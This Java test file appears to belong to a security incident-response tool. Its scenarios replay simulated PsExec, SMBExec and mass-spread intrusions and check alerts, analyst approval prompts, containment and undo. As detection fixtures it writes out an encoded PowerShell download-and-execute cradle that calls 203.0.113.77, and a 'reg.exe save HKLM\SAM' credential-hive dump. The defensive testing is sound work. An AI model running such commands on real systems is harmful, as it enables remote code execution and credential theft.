package seldom.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.Arrays;
import java.util.Base64;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import seldom.cli.Month.Ran;
import seldom.model.alert.Alert;
import seldom.model.alert.Severity;
import seldom.model.incident.Incident;
import seldom.playbook.run.Note;
import seldom.response.ledger.Effect;

/// From telemetry to the end of the playbook, each as a person would go through it.
class ScenariosTest {
  private static final Instant NIGHT = Instant.parse("2026-05-04T02:13:00Z");
  private static final String WS1 = "ws-1";
  private static final Wire.Caller STRANGER = new Wire.Caller("CORP\\ann", "10.9.9.9", "0x51d3a");
  private static final Wire.Caller HELP = new Wire.Caller("CORP\\help", "10.0.0.5", "0x6a001");
  private static final Wire.File POWERSHELL = new Wire.File(Wire.POWERSHELL, "Microsoft Windows");
  private static final Wire.File CMD = new Wire.File(Wire.CMD, "Microsoft Windows");
  private static final String CRADLE =
      "powershell.exe -nop -w hidden -enc "
          + encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')");

  private static final String KILL = "Ask whether to end the process";
  private static final String CONTAIN = "Ask whether to contain";
  private static final String BLOCK = "Ask whether to block";
  private static final String ERADICATE = "Ask whether to eradicate";
  private static final String OPINION = "Ask for an opinion";
  private static final String PASSWORD = "Give the account a new password";
  private static final String[] AT_ONCE = {
    "--policy", "terminate_at_once=true", "--policy", "remediate_at_once=true"
  };
  private static final String RECOVER = "Ask what may come back";

  @TempDir Path temp;
  private Site site = new Site();

  @BeforeEach
  void open() throws IOException {
    site = new Site(temp).hosts("ws-1,workstation", "dc-1,domain-controller");
  }

  private static String encoded(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  private static Wire clone(String host, Instant at, String line) {
    return new Wire().psexec(host, at, Wire.CLONE, "kqzrtvbn", STRANGER, POWERSHELL, line);
  }

  private static String text(Incident i) {
    return i.evidence().toString();
  }

  @Test
  void unsignedPsexecCloneWithEncodedPowershellAtNight() throws IOException {
    Ran replayed = site.replay(clone("ws-1", NIGHT, CRADLE));
    assertThat(replayed.err()).contains("asks SOC analysts");
    Alert alert = site.alerts(Site.PSEXEC).getFirst();
    assertThat(alert.variation()).isEqualTo("lolbin-unsigned");
    assertThat(site.incident().severity()).isGreaterThanOrEqualTo(Severity.HIGH);
    assertThat(text(site.incident())).contains("malicious: ", "is not signed", "203.0.113.77");

    Site.Look asked = site.look();
    assertThat(asked.asks()).containsExactlyInAnyOrder(KILL, CONTAIN, BLOCK, ERADICATE, PASSWORD);
    assertThat(asked.question(CONTAIN).text()).contains(WS1, "10.9.9.9", "CORP\\ann");
    assertThat(asked.evidence(CONTAIN, "reasons")).contains("the command line is rated critical");
    assertThat(site.done()).as("before an approval").isEmpty();

    site.answer(KILL, "approve").answer(CONTAIN, "approve").answer(BLOCK, "approve");
    site.answer(ERADICATE, "reject");
    assertThat(site.done())
        .contains("isolate " + WS1, "isolate 10.9.9.9", "disable-account account CORP\\ann")
        .anyMatch(d -> d.startsWith("terminate process ") && d.endsWith(WS1))
        .anyMatch(d -> d.startsWith("quarantine file " + Wire.CLONE.sha256()));
    assertThat(site.effects()).allMatch(Effect::approved);
    assertThat(Month.run("blocklist", "ip", "--data", site.data).out()).contains("203.0.113.77");

    Site.Look end = site.declineAll();
    assertThat(end.over()).isTrue();
    assertThat(end.steps()).contains("Report", RECOVER);
    Ran undone = Month.run("undo", site.run(), "--data", site.data, "--by", "kim");
    assertThat(undone.out()).contains("undone  seldom-isolate " + WS1);
    assertThat(site.effects().stream().filter(e -> e.kind().equals("seldom-isolate")))
        .isNotEmpty()
        .allMatch(e -> e.state() == Effect.State.UNDONE);
    assertThat(Month.run("blocklist", "ip", "--data", site.data).out()).isBlank();
  }

  @Test
  void smbexecFromAnUnknownAddress() throws IOException {
    site.replay(new Wire().smbexec("ws-1", NIGHT, STRANGER, "whoami"));
    List<Alert> alerts = site.alerts("remote-service-command-execution");
    assertThat(alerts).hasSize(1);
    assertThat(alerts.getFirst().severity()).isEqualTo(Severity.HIGH);
    assertThat(site.alerts(Site.PSEXEC)).as("one execution raises one of the two").isEmpty();
    Site.Look asked = site.look();
    assertThat(asked.asks()).containsExactlyInAnyOrder(KILL, OPINION);
    assertThat(asked.evidence(OPINION, "reasons"))
        .contains("no known host has the address it came from", "the alert is high");
    Site.Look end = site.answer(OPINION, "malicious").answer(CONTAIN, "approve").declineAll();
    assertThat(end.over()).isTrue();
    assertThat(site.done())
        .contains("isolate " + WS1)
        .as("cmd.exe is of a known vendor")
        .noneMatch(d -> d.startsWith("quarantine"));
  }

  /// Four hosts a day: as many as is usual in a tenant, and fewer than a spread.
  @Test
  void helpDesksDailyPsexecAndThenANewAccountUsesIt() throws IOException {
    Wire wire = new Wire();
    Instant first = NIGHT.minus(Duration.ofDays(20)).plus(Duration.ofHours(5));
    IntStream.range(0, 20).forEach(d -> helpDesk(wire, first.plus(Duration.ofDays(d))));
    site.replay(wire);
    List<Alert> routine = site.alerts(Site.PSEXEC);
    assertThat(severities(routine)).isNotEmpty().doesNotContain(Severity.MEDIUM, Severity.HIGH);
    assertThat(latest(routine).severity()).isEqualTo(Severity.INFORMATIONAL);
    assertThat(site.incidents()).isEmpty();
    assertThat(site.runs()).isEmpty();

    Instant last = first.plus(Duration.ofDays(20));
    Wire.Caller other = new Wire.Caller("CORP\\mallory", HELP.address(), "0x77");
    Wire next = new Wire();
    helpDesk(next, last);
    site.replay(psexec(next, "ws-2", last.plusSeconds(300), other, "cmd.exe /c gpupdate /force"));
    List<Alert> now =
        site.alerts(Site.PSEXEC).stream().filter(a -> !a.time().isBefore(last)).toList();
    assertThat(severities(of(now, "help"))).containsOnly(Severity.INFORMATIONAL);
    assertThat(severities(of(now, "mallory"))).containsExactly(Severity.LOW);
    assertThat(site.incidents()).as("low: worth a look, no more").isEmpty();

    String hive = "cmd.exe /c reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv /y";
    site.replay(psexec(new Wire(), "ws-3", last.plus(Duration.ofDays(1)), other, hive));
    assertThat(site.incident().alerts()).anyMatch(a -> a.host().equals("ws-3"));
    assertThat(site.look().asks()).contains(CONTAIN);
  }

  private static Wire psexec(Wire wire, String host, Instant at, Wire.Caller who, String line) {
    return wire.psexec(host, at, Wire.PSEXESVC, "PSEXESVC", who, CMD, line);
  }

  private static void helpDesk(Wire wire, Instant at) {
    wire.owns("desk", at.minusSeconds(600), HELP.address());
    for (int h = 1; h <= 4; h++) {
      psexec(wire, "ws-" + h, at.plusSeconds(5400L * h), HELP, "cmd.exe /c gpupdate /force");
    }
  }

  private static Alert latest(List<Alert> alerts) {
    return alerts.stream().max(Comparator.comparing(Alert::time)).orElseThrow();
  }

  private static List<Severity> severities(List<Alert> alerts) {
    return alerts.stream().map(Alert::severity).toList();
  }

  /// The executions that came by an account.
  private static List<Alert> of(List<Alert> alerts, String account) {
    return alerts.stream()
        .filter(
            a -> a.execution() != null && a.execution().origin().account().endsWith("\\" + account))
        .toList();
  }

  @Test
  void genuinePsexesvcSavingTheSamHive() throws IOException {
    Wire.File reg = new Wire.File("C:\\Windows\\System32\\reg.exe", "Microsoft Windows");
    String line = "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv /y";
    site.replay(new Wire().psexec("ws-1", NIGHT, Wire.PSEXESVC, "PSEXESVC", STRANGER, reg, line));
    Alert alert = site.alerts(Site.PSEXEC).getFirst();
    assertThat(alert.variation()).isEqualTo("genuine");
    assertThat(alert.severity())
        .as("lifted by its command line")
        .isGreaterThanOrEqualTo(Severity.MEDIUM);
    Site.Look asked = site.look();
    assertThat(asked.asks()).contains(OPINION);
    assertThat(asked.evidence(OPINION, "findings")).containsIgnoringCase("hive");
    assertThat(site.incident().severity()).isEqualTo(Severity.MEDIUM);
    site.answer(OPINION, "malicious").answer(CONTAIN, "approve");
    assertThat(site.incident().severity()).as("raised").isEqualTo(Severity.HIGH);
    assertThat(site.done()).contains("isolate " + WS1).noneMatch(d -> d.startsWith("quarantine"));
    assertThat(site.declineAll().over()).isTrue();
  }

  @Test
  void sensorBlockedIt() throws IOException {
    site.replay(
        clone("ws-1", NIGHT, CRADLE)
            .defender("ws-1", NIGHT.plusSeconds(5), Wire.CLONE, "Quarantine"));
    Site.Look asked = site.look();
    assertThat(asked.value("blocked")).isEqualTo("yes");
    assertThat(asked.asks()).doesNotContain(KILL).contains(CONTAIN, ERADICATE);
    site.answer(ERADICATE, "approve").answer(CONTAIN, "approve");
    assertThat(site.declineAll().over()).isTrue();
    site.book(AT_ONCE);
    String[] simulated = Arrays.copyOf(AT_ONCE, AT_ONCE.length + 1);
    simulated[AT_ONCE.length] = "--simulate";
    assertThat(site.book(simulated).out())
        .contains("would    isolate " + WS1)
        .doesNotContain("would    terminate process");
    assertThat(site.done()).contains("isolate " + WS1).noneMatch(d -> d.startsWith("terminate"));
  }

  @Test
  void processAlreadyEnded() throws IOException {
    try (Stub edr =
        new Stub(
            (path, body) ->
                body.contains("seldom-terminate") || body.contains("seldom-capture")
                    ? "{\"state\":\"effective\"}"
                    : "{\"state\":\"present\"}")) {
      site.settings("endpoint: { adapter: webhook, url: \"" + edr.url() + "\" }\n");
      site.replay(clone("ws-1", NIGHT, CRADLE));
      site.answer(KILL, "approve");
      Site.Look end = site.declineAll();
      assertThat(end.over()).isTrue();
      assertThat(end.value("termination_status")).isEqualTo("already-ended");
      assertThat(edr.asked())
          .noneMatch(a -> a.startsWith("/act") && a.contains("seldom-terminate"));
      assertThat(site.effects().stream().filter(e -> e.kind().equals("seldom-terminate")))
          .allMatch(e -> e.state() == Effect.State.DONE && !e.canBeUndone());
    }
  }

  @Test
  void domainControllerAsTarget() throws IOException {
    site.replay(clone("dc-1", NIGHT, CRADLE));
    assertThat(site.look().question(CONTAIN).text()).contains("dc-1 (domain-controller)");
    site.answer(KILL, "approve").answer(CONTAIN, "approve");
    assertThat(site.declineAll().over()).isTrue();
    assertThat(site.done())
        .contains("isolate 10.9.9.9", "disable-account account CORP\\ann")
        .anyMatch(d -> d.startsWith("terminate") && d.endsWith("dc-1"))
        .doesNotContain("isolate dc-1");
    String[] named = Arrays.copyOf(AT_ONCE, AT_ONCE.length + 2);
    named[AT_ONCE.length] = "--run";
    named[AT_ONCE.length + 1] = "automatic";
    site.book(named);
    assertThat(site.effects().stream().filter(e -> e.run().equals("automatic")))
        .as("neither ended nor isolated without a person")
        .allMatch(e -> e.kind().equals("seldom-capture"));
  }

  @Test
  void enrichmentAllDown() throws IOException {
    String nobody = Stub.nobody();
    List<String> all = List.of("circl-hashlookup", "misp", "urlhaus");
    site.settings(
        all.stream()
            .map(i -> "  %s: { url: \"%s\" }\n".formatted(i, nobody))
            .collect(Collectors.joining("", "integrations:\n", "")));
    site.secrets("misp=m\nurlhaus=u\n");
    site.replay(clone("ws-1", NIGHT, "powershell.exe -c whoami"));
    Site.Look asked = site.look();
    assertThat(asked.asks()).containsExactlyInAnyOrder(KILL, OPINION);
    assertThat(asked.question(OPINION).text()).contains(all).contains("virustotal not configured");
    assertThat(asked.evidence(OPINION, "reputation")).isEqualTo("unknown");
    assertThat(asked.evidence(OPINION, "reasons")).containsPattern("not known: .*reputation");
    Site.Look end = site.declineAll();
    assertThat(end.over()).isTrue();
    assertThat(end.steps()).contains("Say that it stays open", "Report");
    assertThat(site.incident().isOpen()).isTrue();
  }

  @Test
  void analystNeverAnswers() throws IOException {
    try (Stub chat = new Stub((path, body) -> "{}")) {
      site.settings("notify: { webhook: { url: \"%s/hook\" } }\n".formatted(chat.url()));
      site.replay(clone("ws-1", NIGHT, CRADLE));
      List<String> asks = site.look().asks();
      assertThat(chat.asked()).hasSize(asks.size()).allMatch(a -> a.contains("Asked of"));
      site.at(InstantSource.fixed(Instant.now().plus(Duration.ofDays(30))));
      Site.Look end = site.look();
      assertThat(end.over()).isTrue();
      assertThat(end.lapsed()).extracting(Note::title).containsExactlyInAnyOrderElementsOf(asks);
      assertThat(site.done()).as("silence is no approval").isEmpty();
      for (String title : asks) {
        String said = title + ": nobody answered in time";
        assertThat(chat.asked()).anyMatch(a -> a.contains(said));
        assertThat(text(site.incident())).contains(said);
      }
    }
  }

  @Test
  void thirtyHostsInAnHour() throws IOException {
    List<String> hosts = IntStream.range(10, 40).mapToObj(h -> "pc-" + h).toList();
    Wire wire = new Wire();
    for (int h = 0; h < hosts.size(); h++) {
      Instant at = NIGHT.plusSeconds(110L * h);
      wire.psexec(hosts.get(h), at, Wire.CLONE, "kqzrtvbn", STRANGER, POWERSHELL, CRADLE);
    }
    site.replay(wire);
    assertThat(site.incident().hosts()).hasSize(30);
    assertThat(site.runs()).as("one run").hasSize(1);
    Site.Look asked = site.look();
    assertThat(asked.asks())
        .as("one question of each kind")
        .containsExactlyInAnyOrder(KILL, CONTAIN, BLOCK, ERADICATE, PASSWORD);
    assertThat(asked.evidence(CONTAIN, "wave_hosts").lines()).containsExactlyElementsOf(hosts);
    site.answer(CONTAIN, "approve");
    assertThat(site.done()).containsAll(hosts.stream().map(h -> "isolate " + h).toList());
    site.declineAll();
    Ran undone = Month.run("undo", site.run(), "--data", site.data);
    assertThat(undone.exit()).as(undone.out()).isZero();
    assertThat(site.effects().stream().filter(e -> e.kind().equals("seldom-isolate")))
        .hasSize(31)
        .allMatch(e -> e.state() == Effect.State.UNDONE);
  }
}
